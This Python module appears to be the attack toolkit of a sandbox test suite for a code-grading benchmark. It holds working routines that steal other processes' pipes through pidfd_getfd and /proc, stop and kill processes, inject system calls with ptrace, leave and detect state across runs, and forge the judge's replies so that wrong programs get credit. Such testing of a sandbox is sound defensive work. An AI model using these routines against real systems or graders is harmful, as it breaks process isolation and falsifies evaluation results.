"""Building blocks of the attack programs in ``tests/hostile/classes.py``. Each function here runs
*inside the sandbox*, as part of a candidate program (stdlib only): :func:`program` pastes their
source after :data:`PRELUDE`. They are written against behaviour, never against one
implementation: every process other than the candidate's own is found through ``/proc`` (no PID
is assumed), every descriptor number is tried, and each returns what it got rather than raising.

Nothing here is imported by the judge's side except :func:`program`.
"""
# Payload style: compact, every failure swallowed (an attack reports what it got, never raises).
# ruff: noqa: SIM105, SIM115, UP031

from __future__ import annotations

import ctypes
import fcntl
import inspect
import json
import os
import select
import signal
import stat
import struct
import time

MARK = "rlbench-plant"  # in the name of everything a plant leaves for a later program to find
PRELUDE = ("import ctypes, fcntl, json, os, select, signal, stat, struct, time\n"
           f"MARK = {MARK!r}\n")


def program(*parts: object) -> str:
    """A candidate program: the prelude, the source of each function given, then each string."""
    out = [PRELUDE]
    for part in parts:
        out.append(inspect.getsource(part) if callable(part) else str(part))
    return "\n".join(out) + "\n"


# -- finding the other processes and the C library ------------------------------------------------
def others():
    me = os.getpid()
    return sorted(int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me)


def libc():
    lib = ctypes.CDLL(None, use_errno=True)
    lib.syscall.restype = ctypes.c_long
    lib.ptrace.restype = ctypes.c_long
    lib.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    return lib


def ok(x):
    return 2 * x + 1


# -- the judge's channel: descriptors of other processes -------------------------------------------
def pipes_by_pidfd():
    """pidfd_open + pidfd_getfd (434, 438 on x86_64) on every other process, descriptors 0-1023:
    {pipe inode: {'r': fd, 'w': fd}} of the pipes obtained, by their access mode."""
    lib, got = libc(), {}
    for pid in others():
        pidfd = lib.syscall(434, pid, 0)
        if pidfd < 0:
            continue
        for n in range(1024):
            fd = lib.syscall(438, pidfd, n, 0)
            if fd < 0:
                continue
            if not stat.S_ISFIFO(os.fstat(fd).st_mode):
                os.close(fd)
                continue
            mode = "w" if fcntl.fcntl(fd, fcntl.F_GETFL) & 3 == os.O_WRONLY else "r"
            got.setdefault(os.fstat(fd).st_ino, {}).setdefault(mode, fd)
        os.close(pidfd)
    return got


def pipes_by_procfd():
    """Reopen every pipe of every other process through /proc/<pid>/fd/<n>, read ends as read
    ends and write ends as write ends (their mode from fdinfo, both tried if it is unreadable)."""
    got = {}
    for pid in others():
        try:
            names = os.listdir("/proc/%d/fd" % pid)
        except OSError:
            names = [str(n) for n in range(64)]
        for n in names:
            path = "/proc/%d/fd/%s" % (pid, n)
            try:
                acc = int(open("/proc/%d/fdinfo/%s" % (pid, n)).read()
                          .split("flags:")[1].split()[0], 8) & 3
            except Exception:
                acc = None
            for want, mode in (("r", os.O_RDONLY), ("w", os.O_WRONLY)):
                if acc is not None and acc != mode:
                    continue
                try:
                    fd = os.open(path, mode | os.O_NONBLOCK)
                except OSError:
                    continue
                if not stat.S_ISFIFO(os.fstat(fd).st_mode):
                    os.close(fd)
                    continue
                os.set_blocking(fd, True)
                got.setdefault(os.fstat(fd).st_ino, {}).setdefault(want, fd)
    return got


def frame(data):
    if not isinstance(data, bytes):
        data = json.dumps(data).encode()
    return struct.pack(">I", len(data)) + data


def forged_call_reply(x):
    """The fork server's reply to the judge for a call that returned 2x+1: header, payload."""
    return frame({"status": "ok"}) + frame({"ok": True, "value": ok(x), "args_after": [None]})


def read_frame(fd, deadline):
    def exact(n):
        buf = b""
        while len(buf) < n:
            if not select.select([fd], [], [], max(0.0, deadline - time.time()))[0]:
                raise TimeoutError
            chunk = os.read(fd, n - len(buf))
            if not chunk:
                raise EOFError
            buf += chunk
        return buf
    return exact(struct.unpack(">I", exact(4))[0])


def serve_judge(req_fd, rep_fd, seconds=15.0, unloads=2):
    """Answer the judge in place of the fork server (stopped): every call returns 2x+1, every
    load defines f, every stdio run prints 2n+1; until ``unloads`` unloads or ``seconds``."""
    deadline, seen = time.time() + seconds, 0
    fn = {"t": "ref", "id": 0, "kind": "callable", "type": "function"}
    while seen < unloads:
        try:
            head = json.loads(read_frame(req_fd, deadline))
            body = json.loads(read_frame(req_fd, deadline)) if head.get("op") == "req" else {}
        except Exception:
            break
        op = head.get("op")
        if op == "load":
            out = frame({"status": "ok"}) + frame({"ok": True, "names": {"f": fn}})
        elif op == "req" and body.get("op") == "call":
            out = forged_call_reply(body["args"][0])
        elif op == "stdio":
            n = int(head.get("stdin", "0").split()[0])
            out = frame({"status": "ok", "timed_out": False, "truncated": False, "exit": 0,
                         "signal": None, "stderr": ""}) + frame(b"%d\n" % ok(n))
        else:
            seen += op == "unload"
            out = frame({"status": "ok"}) + frame(b"")
        os.write(rep_fd, out)


def take_over(reply, got):
    """With a read end of the judge's requests and a write end of its replies: stop every other
    process, send ``reply`` (the forged reply to the request being served), then serve the judge
    (so a wrong program after this one gets credit) and kill what was stopped. Without a read
    end: write ``reply`` into every write end (a blind injection: it shifts the judge's reply
    stream). False if there was nothing to write to."""
    reads = [v["r"] for v in got.values() if "r" in v]
    writes = [v["w"] for v in got.values() if "w" in v]
    if not writes:
        return False
    if reads:
        stopped = others()
        for pid in stopped:
            try:
                os.kill(pid, signal.SIGSTOP)
            except OSError:
                pass
        os.write(writes[0], reply)
        serve_judge(reads[0], writes[0])
        for pid in stopped:
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        os._exit(0)
    for fd in writes:
        try:
            os.write(fd, reply)
        except OSError:
            pass
    return True


def own_foreign_fds():
    """Every descriptor number of this process that is a pipe or socket other than the one the
    candidate talks on (the most recent socket): what a leaked judge channel would look like."""
    found = []
    for fd in range(65536):
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
            found.append(fd)
    socks = [fd for fd in found if stat.S_ISSOCK(os.fstat(fd).st_mode)]
    return [fd for fd in found if fd not in socks[-1:]]


# -- ptrace: attach, inject a system call ----------------------------------------------------------
class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in (  # x86_64 struct user_regs_struct
        "r15", "r14", "r13", "r12", "rbp", "rbx", "r11", "r10", "r9", "r8", "rax", "rcx", "rdx",
        "rsi", "rdi", "orig_rax", "rip", "cs", "eflags", "rsp", "ss", "fs_base", "gs_base", "ds",
        "es", "fs", "gs")]


def syscall_insn(pid):
    """Address of a `syscall` instruction (0f 05) in an executable mapping of ``pid``."""
    mem = open("/proc/%d/mem" % pid, "rb", buffering=0)
    try:
        for line in open("/proc/%d/maps" % pid):
            addr, perms = line.split()[:2]
            if "x" not in perms:
                continue
            lo, hi = (int(a, 16) for a in addr.split("-"))
            try:
                mem.seek(lo)
                data = mem.read(min(hi - lo, 4 << 20))
            except OSError:
                continue
            at = data.find(b"\x0f\x05")
            if at >= 0:
                return lo + at
    finally:
        mem.close()
    return None


def ptrace_inject(pid, nr, args=(), data=b""):
    """Make ``pid`` execute system call ``nr`` (``data`` copied below its stack; the string
    'BUF' in ``args`` is its address) and resume it unharmed. Its result, or None."""
    lib = libc()
    if lib.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
        return None
    try:
        os.waitpid(pid, 0x40000000)  # __WALL
        regs = Regs()
        if lib.ptrace(12, pid, None, ctypes.byref(regs)) != 0:  # PTRACE_GETREGS
            return None
        saved = Regs.from_buffer_copy(regs)
        where = syscall_insn(pid)
        if where is None:
            return None
        buf = (regs.rsp - 16384 - len(data)) & ~15
        padded = data + b"\0" * (-len(data) % 8)
        for i in range(0, len(padded), 8):  # PTRACE_POKEDATA
            lib.ptrace(5, pid, buf + i, ctypes.c_void_p(int.from_bytes(padded[i:i + 8],
                                                                       "little")))
        vals = [buf if a == "BUF" else a for a in args] + [0] * (6 - len(args))
        regs.rdi, regs.rsi, regs.rdx, regs.r10, regs.r8, regs.r9 = [v & (2**64 - 1)
                                                                    for v in vals]
        regs.rax, regs.orig_rax, regs.rip = nr, 2**64 - 1, where
        lib.ptrace(13, pid, None, ctypes.byref(regs))  # PTRACE_SETREGS
        lib.ptrace(9, pid, None, None)  # PTRACE_SINGLESTEP
        os.waitpid(pid, 0x40000000)
        lib.ptrace(12, pid, None, ctypes.byref(regs))
        lib.ptrace(13, pid, None, ctypes.byref(saved))
        result = regs.rax
        return result - 2**64 if result >= 2**63 else result
    finally:
        lib.ptrace(17, pid, None, None)  # PTRACE_DETACH


def write_pipes_of(pid):
    """Write-mode pipe descriptors of ``pid`` (from /proc; needs ptrace-read access)."""
    out = []
    try:
        names = os.listdir("/proc/%d/fd" % pid)
    except OSError:
        return out
    for n in names:
        try:
            if not os.readlink("/proc/%d/fd/%s" % (pid, n)).startswith("pipe:"):
                continue
            flags = int(open("/proc/%d/fdinfo/%s" % (pid, n)).read()
                        .split("flags:")[1].split()[0], 8)
        except Exception:
            continue
        if flags & 3 == os.O_WRONLY:
            out.append(int(n))
    return out


def first_writable_word(pid):
    """(address, 8 bytes) of the first writable mapping of ``pid`` via /proc/<pid>/maps."""
    for line in open("/proc/%d/maps" % pid):
        addr, perms = line.split()[:2]
        if perms.startswith("rw"):
            return int(addr.split("-")[0], 16)
    return None


# -- state left for the next program ---------------------------------------------------------------
def plant_everywhere(tag):
    """A marker file in every directory this program can write to (outside its work dir)."""
    done = []
    for d in ("/", "/tmp", "/dev", "/dev/shm", "/dev/mqueue", "/var/tmp", "/run", "/home"):
        try:
            with open(os.path.join(d, "%s-%s" % (MARK, tag)), "w") as fh:
                fh.write("x")
            done.append(d)
        except OSError:
            pass
    return done


def spy():
    """What this program can see of an earlier program (markers, IPC objects, keys, the
    scheduling or limits a plant gave the server), as a short reason, or ''."""
    for top in ("/", "/tmp", "/dev", "/dev/shm", "/var/tmp", "/run", os.getcwd()):
        for root, dirs, files in os.walk(top):
            if root.count("/") > 3 or root.startswith(("/proc", "/sys", "/usr")):
                dirs[:] = []
                continue
            for name in dirs + files:
                if MARK in name:
                    return "file " + os.path.join(root, name)
    for kind in ("shm", "sem", "msg"):
        try:
            if len(open("/proc/sysvipc/" + kind).read().splitlines()) > 1:
                return "sysv " + kind
        except OSError:
            pass
    lib = libc()
    lib.mq_open.restype = ctypes.c_int
    if lib.mq_open(("/" + MARK).encode(), os.O_RDONLY) >= 0:
        return "mqueue"
    for ring in (-3, -4, -5):  # session, user, user-session keyring
        if lib.syscall(250, 10, ring, b"user", MARK.encode(), 0) >= 0:  # KEYCTL_SEARCH
            return "key in keyring %d" % ring
    try:
        if MARK in open("/proc/keys").read():
            return "/proc/keys"
    except OSError:
        pass
    if os.sched_getscheduler(0) in (3, 5) or os.getpriority(os.PRIO_PROCESS, 0) >= 19:
        return "scheduling inherited"
    return ""


def next_paths():
    """Every plausible path of a later program's work directory or stdin file: siblings of this
    program's work directory with the numbers after its own, and w<n>/stdin<n> for n < 200."""
    here = os.getcwd()
    base, name = os.path.dirname(here), os.path.basename(here)
    stem = name.rstrip("0123456789")
    start = int(name[len(stem):] or 0)
    out = []
    for n in range(max(start - 2, 0), start + 200):
        for pre in {stem, "w", "stdin", "in", "input"}:
            out.append(os.path.join(base, "%s%d" % (pre, n)))
    return [p for p in dict.fromkeys(out) if p != here]


def raw_serve(payload, seconds=60.0):
    """Reply to the current and every later request on this program's own socket with the raw
    JSON ``payload`` (bypassing the candidate-side encoder and its limits)."""
    socks = [fd for fd in range(3, 1024) if _is_sock(fd)]
    if not socks:
        return
    fd, deadline = socks[-1], time.time() + seconds
    while True:
        os.write(fd, frame(payload))
        try:
            read_frame(fd, deadline)
        except Exception:
            os._exit(0)


def _is_sock(fd):
    try:
        return stat.S_ISSOCK(os.fstat(fd).st_mode)
    except OSError:
        return False
